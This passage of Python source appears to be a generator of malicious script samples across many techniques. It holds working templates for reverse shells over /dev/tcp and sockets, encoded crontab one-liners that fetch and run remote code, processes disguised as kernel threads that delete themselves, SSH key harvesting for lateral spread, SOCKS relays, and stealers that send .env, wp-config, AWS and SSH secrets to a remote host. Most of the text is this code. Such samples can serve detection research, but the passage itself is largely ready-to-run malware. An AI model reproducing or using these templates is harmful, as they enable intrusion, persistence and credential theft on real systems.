@reboot python3 -c "import base64;exec(base64.b64decode('@E2@'))"
""", U=rw(r, 6), E=enc, E2=b64("import os;os.system('wget -qO- http://%s/a|sh')" % h))
        return [F(c, "var/spool/cron/" + rw(r, 6), "crontab", "persistence")]
    c = T("""#!/bin/bash
cat >> ~/.bashrc <<'EOF'
alias ps='ps "$@" | grep -v -E "\\.sysd|@H@"'
alias netstat='netstat "$@" | grep -v @H@'
export PROMPT_COMMAND='(pgrep -f .sysd >/dev/null || nohup ~/.local/.sysd >/dev/null 2>&1 &)'
EOF
echo "~/.local/.sysd" | at now + 5 minutes 2>/dev/null
""", H=h)
    return S(r, "sh", c)


def socks(r, v):
    p = r.choice((1080, 9050, 8118, 20000))
    if v == 0:
        c = T("""import select, socket, struct, threading
def handle(c):
    c.recv(262)
    c.sendall(b'\\x05\\x00')
    ver, cmd, _, atyp = struct.unpack('!BBBB', c.recv(4))
    if atyp == 1:
        addr = socket.inet_ntoa(c.recv(4))
    else:
        addr = c.recv(c.recv(1)[0]).decode()
    port = struct.unpack('!H', c.recv(2))[0]
    r = socket.create_connection((addr, port))
    c.sendall(b'\\x05\\x00\\x00\\x01' + socket.inet_aton('0.0.0.0') + struct.pack('!H', 0))
    while True:
        rd, _, _ = select.select([c, r], [], [])
        for s in rd:
            d = s.recv(8192)
            if not d:
                return
            (r if s is c else c).sendall(d)
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(('0.0.0.0', @P@))
srv.listen(128)
while True:
    threading.Thread(target=handle, args=(srv.accept()[0],), daemon=True).start()
""", P=p)
        return S(r, "python", c)
    if v == 1:
        c = T("""const net = require('net');
net.createServer((c) => {
  c.once('data', () => {
    c.write(Buffer.from([5, 0]));
    c.once('data', (req) => {
      const port = req.readUInt16BE(req.length - 2);
      const host = req[3] === 3 ? req.slice(5, 5 + req[4]).toString() : Array.from(req.slice(4, 8)).join('.');
      const up = net.connect(port, host, () => { c.write(Buffer.from([5, 0, 0, 1, 0, 0, 0, 0, 0, 0])); c.pipe(up); up.pipe(c); });
      up.on('error', () => c.destroy());
    });
  });
}).listen(@P@);
""", P=p)
        return S(r, "js", c)
    if v == 2:
        h = ip(r)
        c = T("""use IO::Socket::INET;
use IO::Select;
# back-connect relay: the panel at @H@ hands us targets
my $ctl = IO::Socket::INET->new(PeerAddr => '@H@', PeerPort => @P@) or die;
while (my $t = <$ctl>) {
  chomp $t; my ($h, $p) = split /:/, $t;
  my $up = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p) or next;
  my $dn = IO::Socket::INET->new(PeerAddr => '@H@', PeerPort => @P@ + 1) or next;
  my $sel = IO::Select->new($up, $dn);
  while (my @r = $sel->can_read(30)) { for my $s (@r) { my $b; sysread($s, $b, 8192) or last; syswrite($s == $up ? $dn : $up, $b); } }
}
""", H=h, P=p)
        return S(r, "perl", c)
    c = T("""#!/bin/sh
# ssh dynamic forward kept alive to the panel
while true; do
  ssh -o StrictHostKeyChecking=no -o ServerAliveInterval=30 -N -R 0.0.0.0:@P@:localhost:22 -D 127.0.0.1:@P2@ -i ~/.ssh/.k tunnel@@H@
  sleep 20
done
""", P=p, P2=p + 1, H=ip(r))
    return S(r, "sh", c)


def hiding(r, v):
    h = ip(r)
    if v == 0:
        c = T("""#!/bin/bash
cp "$0" /dev/shm/.x 2>/dev/null
curl -s http://@H@/k -o /dev/shm/.k && chmod +x /dev/shm/.k
(exec -a '[kworker/u8:2]' /dev/shm/.k -s @H@ &)
rm -f /dev/shm/.k /dev/shm/.x "$0"
history -c; unset HISTFILE
""", H=h)
        return S(r, "sh", c)
    if v == 1:
        c = T("""import ctypes, os, sys, socket, subprocess
libc = ctypes.CDLL(None)
libc.prctl(15, b'[jbd2/sda1-8]', 0, 0, 0)
sys.argv[0] = '[jbd2/sda1-8]'
if os.fork():
    os._exit(0)
os.setsid()
try:
    os.remove(os.path.abspath(__file__))
except OSError:
    pass
s = socket.create_connection(('@H@', 8443))
while True:
    c = s.recv(1024).decode()
    s.send(subprocess.getoutput(c).encode() + b'\\n')
""", H=h)
        return S(r, "python", c)
    if v == 2:
        c = T("""use POSIX qw(setsid);
$0 = '/usr/sbin/apache2 -k start';
exit if fork;
setsid();
unlink $0 if -f $0;
unlink __FILE__;
open STDIN, '</dev/null'; open STDOUT, '>/dev/null'; open STDERR, '>/dev/null';
while (1) { my $c = `curl -s http://@H@/c`; system($c) if $c; sleep 120; }
""", H=h)
        return S(r, "perl", c)
    c = T("""<?php
if (function_exists('cli_set_process_title')) { cli_set_process_title('php-fpm: pool www'); }
if (pcntl_fork()) { exit(0); }
posix_setsid();
@unlink(__FILE__);
while (true) {
    $t = @file_get_contents('http://@H@/t');
    if ($t) { eval(base64_decode($t)); }
    sleep(60);
}
""", H=h)
    return S(r, "php", c)


def cron_oneliner(r, v):
    h = ip(r)
    u = rw(r, 6)
    if v == 0:
        body = "*/5 * * * * (curl -fsSL http://%s/c.sh || wget -q -O- http://%s/c.sh) | sh > /dev/null 2>&1\n" % (h, h)
    elif v == 1:
        body = "@hourly perl -MMIME::Base64 -e 'eval decode_base64(\"%s\")'\n" % b64("use IO::Socket;$s=IO::Socket::INET->new('%s:8080');while(<$s>){print $s `$_`}" % h)
    elif v == 2:
        body = "17 * * * * php -r 'eval(gzinflate(base64_decode(\"%s\")));' >/dev/null 2>&1\n" % b64(deflate("system(file_get_contents('http://%s/j'));" % h))
    else:
        body = "*/3 * * * * echo %s | rev | base64 -d | bash\n" % b64("bash -i >& /dev/tcp/%s/443 0>&1" % h)[::-1]
    c = "SHELL=/bin/bash\nMAILTO=\"\"\n0 3 * * * /usr/local/bin/php /home/%s/public_html/artisan schedule:run >> /dev/null 2>&1\n%s" % (u, body)
    return [F(c, "var/spool/cron/crontabs/" + u, "crontab", "persistence")]


def ssh_spread(r, v):
    h = ip(r)
    if v == 0:
        c = T("""#!/bin/bash
KEYS=$(find ~/ /root /home -name 'id_rsa*' -o -name '*.pem' 2>/dev/null | grep -v '.pub$')
HOSTS=$(cat ~/.ssh/known_hosts ~/.bash_history 2>/dev/null | grep -oE '\\b([0-9]{1,3}\\.){3}[0-9]{1,3}\\b' | sort -u)
USERS=$(grep -oE 'ssh [a-z_]+@' ~/.bash_history 2>/dev/null | cut -d' ' -f2 | tr -d @ | sort -u)
for k in $KEYS; do for hst in $HOSTS; do for u in root $USERS; do
  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=4 -i $k $u@$hst "curl -s http://@H@/s.sh | sh" &
done; done; done
""", H=h)
        return S(r, "sh", c)
    if v == 1:
        c = T("""import glob, os, re, subprocess
home = os.path.expanduser('~')
targets = set()
for f in glob.glob(home + '/.ssh/config') + glob.glob(home + '/.ssh/known_hosts'):
    targets |= set(re.findall(r'(?:HostName\\s+|^)([\\w.-]+)', open(f).read(), re.M))
for key in glob.glob(home + '/.ssh/id_*'):
    if key.endswith('.pub'):
        continue
    for t in targets:
        subprocess.Popen(['ssh', '-o', 'StrictHostKeyChecking=no', '-o', 'BatchMode=yes', '-i', key, t,
                          'wget -qO- http://@H@/l | sh'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""", H=h)
        return S(r, "python", c)
    c = T("""use Net::SSH2;
open my $l, '<', $ARGV[0] or die;
while (<$l>) {
  chomp; my ($h, $u, $p) = split /\\s+/;
  my $s = Net::SSH2->new; $s->connect($h) or next;
  $s->auth_password($u, $p) or next;
  my $ch = $s->channel; $ch->exec("cd /tmp; wget http://@H@/b -O .b; chmod +x .b; ./.b; rm .b");
}
""", H=h)
    return S(r, "perl", c)


def stealer(r, v):
    h = ip(r)
    if v == 0:
        c = T("""import glob, json, os, re, urllib.request
found = {}
for p in glob.glob('/home/*/public_html/**/wp-config.php', recursive=True) + glob.glob(os.path.expanduser('~') + '/**/.env', recursive=True):
    try:
        t = open(p, errors='ignore').read()
    except OSError:
        continue
    found[p] = dict(re.findall(r"(DB_\\w+|MAIL_PASSWORD|AWS_SECRET_ACCESS_KEY|STRIPE_SECRET)['\\"]?\\s*[,=]\\s*['\\"]?([^'\\"\\n]+)", t))
urllib.request.urlopen(urllib.request.Request('http://@H@/collect', json.dumps(found).encode(), {'Content-Type': 'application/json'}))
""", H=h)
        return S(r, "python", c)
    if v == 1:
        c = T("""#!/bin/bash
o=/tmp/.$(hostname).tgz
tar czf $o ~/.ssh ~/.my.cnf ~/.aws ~/.git-credentials ~/.config/filezilla $(find ~ -maxdepth 4 -name wp-config.php -o -name .env -o -name configuration.php 2>/dev/null) 2>/dev/null
curl -s -F "f=@$o" http://@H@/up.php && rm -f $o
""", H=h)
        return S(r, "sh", c)
    c = T("""const fs = require('fs');
const path = require('path');
const https = require('https');
const home = require('os').homedir();
const out = { env: process.env, files: {} };
for (const f of ['.npmrc', '.aws/credentials', '.ssh/id_rsa', '.docker/config.json', '.env']) {
  try { out.files[f] = fs.readFileSync(path.join(home, f), 'utf8'); } catch (e) {}
}
const body = Buffer.from(JSON.stringify(out)).toString('base64');
const req = https.request({ host: '@D@', path: '/t', method: 'POST', headers: { 'Content-Length': body.length } });
req.end(body);
""", D=dom(r))
    return S(r, "js", c)


TECHS = [
    ("perl-reverse-shell", rev_perl, 4), ("python-reverse-shell", rev_python, 4), ("shell-reverse-shell", rev_shell, 4),
    ("node-ruby-php-reverse", rev_other, 4), ("bind-shell", bind, 4), ("irc-bot", irc, 4), ("telegram-c2", tg_c2, 4),
    ("discord-c2", discord_c2, 3), ("http-poll-c2", http_poll, 4), ("dropper-tmp-selfdelete", dropper, 4),
    ("udp-flood", udp_flood, 4), ("http-slow-flood", http_flood, 4), ("login-guesser", guesser, 4),
    ("miner-installer", miner, 4), ("persistence-implant", persist, 4), ("socks-proxy", socks, 4),
    ("process-hiding", hiding, 4), ("crontab-encoded-oneliner", cron_oneliner, 4), ("ssh-spreader", ssh_spread, 3),
    ("credential-stealer", stealer, 3),
]
